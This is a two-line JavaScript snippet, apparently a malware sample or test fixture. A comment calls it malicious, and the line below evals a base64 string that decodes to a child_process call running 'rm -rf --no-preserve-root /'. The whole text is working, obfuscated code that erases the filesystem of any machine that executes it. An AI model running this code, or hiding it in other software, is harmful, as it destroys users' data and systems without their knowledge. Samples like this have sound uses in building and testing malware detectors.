// Malicious, obfuscated: eval(Buffer.from(..., 'base64').toString()) of a child_process rm -rf /.
eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgLS1uby1wcmVzZXJ2ZS1yb290IC8nKQ==', 'base64').toString());
